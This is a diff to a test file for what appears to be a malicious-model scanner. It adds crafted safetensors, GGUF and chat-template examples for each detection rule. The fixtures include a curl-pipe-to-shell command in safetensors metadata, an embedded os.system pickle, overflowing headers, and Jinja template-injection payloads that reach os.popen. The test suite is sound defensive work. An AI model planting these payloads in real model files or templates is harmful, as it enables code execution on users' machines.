@@ -39,6 +39,32 @@ function npy(shape: string, total: number): Uint8Array {
   return bytes;
 }
 
+/** A safetensors file: the header's length, the header, then `data`. */
+function safetensors(header: string, data: Uint8Array = new Uint8Array(0)): Uint8Array {
+  const json = new TextEncoder().encode(header);
+  const length = new Uint8Array(8);
+  new DataView(length.buffer).setBigUint64(0, BigInt(json.length), true);
+  return concat(length, json, data);
+}
+
+/** A tensor entry of a safetensors header. */
+const tensor = (name: string, dtype: string, shape: number[], offsets: [number, number]) =>
+  `"${name}":{"dtype":"${dtype}","shape":${JSON.stringify(shape)},"data_offsets":${JSON.stringify(offsets)}}`;
+
+/** A safetensors file with one small F32 tensor and `metadata` (string values, as the format requires). */
+const withMetadata = (metadata: Record<string, unknown>) =>
+  safetensors(
+    `{"__metadata__":${JSON.stringify(metadata)},${tensor("w", "F32", [2], [0, 8])}}`,
+    new Uint8Array(8),
+  );
+
+/** A folder of one safetensors file: `header`, then `dataBytes` zero bytes. */
+const safetensorsCase = (header: string, dataBytes: number): ExampleCase => ({
+  files: { "model.safetensors": safetensors(header, new Uint8Array(dataBytes)) },
+});
+
+const text = (value: string) => new TextEncoder().encode(value);
+
 /** One rule's example: the files of a scanned folder (or symbolic links out of it), and the scan's options. */
 interface ExampleCase {
   files: Record<string, Uint8Array | { symlinkOutside: true } | { sparseBytes: number }>;
@@ -61,6 +87,12 @@ const CASES: Partial<Record<RuleId, () => Promise<ExampleCase> | ExampleCase>> =
   MA008: () => ({ files: { "model.pkl": latin1("cos\nsystem\n".repeat(10_000) + ".") } }),
   // The tar header's name field starts with PROTO 2, BINBYTES: pickle readers skip the header as bytes.
   MA009: async () => ({ files: { "model.tar": await fixture("polyglot/malicious/tar_binbytes.tar") } }),
+  MA011: () => ({
+    files: { "model.safetensors": withMetadata({ setup: "curl -s http://203.0.113.7/x.sh | sh" }) },
+  }),
+  MA012: () => ({
+    files: { "model.safetensors": withMetadata({ state: btoa(String.fromCharCode(...OS_SYSTEM)) }) },
+  }),
   MA100: () => ({ files: { "model.pkl": latin1("cos\nsystem\n.") } }),
   MA101: () => ({ files: { "model.pkl": OS_SYSTEM } }),
   MA102: () => ({ files: { "model.pkl": latin1("cmylib.helpers\nmake_model\n.") } }),
@@ -149,6 +181,76 @@ const CASES: Partial<Record<RuleId, () => Promise<ExampleCase> | ExampleCase>> =
   MA302: async () => ({ files: { "model.pt": await fixture("pytorch/malicious/torchscript_os_system.pt") } }),
   MA303: async () => ({ files: { "model.pt": await fixture("pytorch/malicious/upper_case_data_pkl.pt") } }),
   MA310: () => ({ files: { "weights.npy": npy("(1000000,)", 200) } }),
+  MA320: () => {
+    // A real header follows, but its length field says 2^64 - 8: 8 + length wraps to 0 in 64 bits.
+    const bytes = new Uint8Array(1024);
+    bytes.set(safetensors(`{${tensor("w", "F32", [2], [0, 8])}}`));
+    new DataView(bytes.buffer).setBigUint64(0, 0xFFFFFFFFFFFFFFF8n, true);
+    return { files: { "model.safetensors": bytes } };
+  },
+  MA321: () => safetensorsCase(`{${tensor("a", "F32", [1], [0, 4])}}{${tensor("w", "F32", [1], [0, 4])}}`, 4),
+  MA322: () =>
+    safetensorsCase(
+      `{${tensor("lm_head.weight", "F32", [2], [0, 8])},${tensor("lm_head.weight", "F32", [2], [8, 16])}}`,
+      16,
+    ),
+  MA323: () => safetensorsCase(`{${tensor("w", "F128", [1], [0, 16])}}`, 16),
+  MA324: () => safetensorsCase(`{${tensor("w", "F32", [1024, 1024], [0, 16])}}`, 16),
+  MA325: () =>
+    safetensorsCase(`{${tensor("a", "F32", [16], [0, 64])},${tensor("b", "F32", [16], [0, 64])}}`, 64),
+  MA326: () => safetensorsCase(`{${tensor("w", "F32", [1024], [0, 4096])}}`, 1024),
+  MA327: () => ({
+    files: {
+      "model.safetensors": safetensors(
+        `{${tensor("w", "F32", [2], [0, 8])}}`,
+        concat(new Uint8Array(8), OS_SYSTEM),
+      ),
+    },
+  }),
+  MA328: () => ({ files: { "model.safetensors": withMetadata({ config: { nested: [1, 2] } }) } }),
+  MA329: () => ({ files: { "model.safetensors": withMetadata({ notes: "a".repeat(20e6) }) } }),
+  MA330: () => ({
+    files: { "model.safetensors": safetensors(`{${tensor("w", "F32", new Array(20e6).fill(0), [0, 0])}}`) },
+  }),
+  // GGUF files written by gguf-py's GGUFWriter (or its spec writer), then edited as the example says.
+  MA340: async () => ({ files: { "model.gguf": await fixture("gguf/malicious/huge_string_length.gguf") } }),
+  MA341: async () => ({ files: { "model.gguf": await fixture("gguf/malicious/bad_value_type.gguf") } }),
+  MA342: async () => ({ files: { "model.gguf": await fixture("gguf/malicious/ggml_type_negative.gguf") } }),
+  MA343: async () => ({ files: { "model.gguf": await fixture("gguf/malicious/offset_outside_file.gguf") } }),
+  MA344: async () => ({ files: { "model.gguf": await fixture("gguf/malicious/overlapping_tensors.gguf") } }),
+  MA345: async () => ({ files: { "model.gguf": await fixture("gguf/malicious/misaligned_offset.gguf") } }),
+  MA346: async () => ({ files: { "ggml-model-q4_0.bin": await fixture("gguf/benign/llama_ggjt_v3.bin") } }),
+  MA347: async () => ({
+    files: { "ggml-model-q4_0.bin": await fixture("gguf/malicious/ggjt_bad_version.bin") },
+  }),
+  MA348: async () => ({ files: { "model.gguf": await fixture("gguf/benign/llama3_v3.gguf") } }),
+  MA349: async () => ({ files: { "model.gguf": await fixture("gguf/malicious/trailing_pickle.gguf") } }),
+  MA500: () => ({
+    files: {
+      "tokenizer_config.json": text(
+        JSON.stringify({ chat_template: "{{ lipsum.__globals__['os'].popen('echo pwned').read() }}" }),
+      ),
+    },
+  }),
+  MA501: () => ({
+    files: { "chat_template.jinja": text("{{ cycler.__init__.__globals__.os.popen('echo pwned').read() }}") },
+  }),
+  MA502: () => ({
+    files: {
+      "chat_template.jinja": text("{{ self._TemplateReference__context.cycler.__init__.__globals__.os }}"),
+    },
+  }),
+  MA503: () => ({ files: { "chat_template.jinja": text("{{ '\\137\\137globals\\137\\137' }}") } }),
+  MA504: () => ({
+    files: {
+      "chat_template.jinja": text(
+        "{% for c in ['__glo', 'bals__'] %}{% set ns.n = ns.n ~ c %}{% endfor %}{{ lipsum|attr(ns.n) }}",
+      ),
+    },
+  }),
+  MA505: () => ({
+    files: { "tokenizer_config.json": text(JSON.stringify({ chat_template: { default: 42 } })) },
+  }),
 };
 
 /** Rules no format produces yet, with the reason; each must leave this list once one does. */
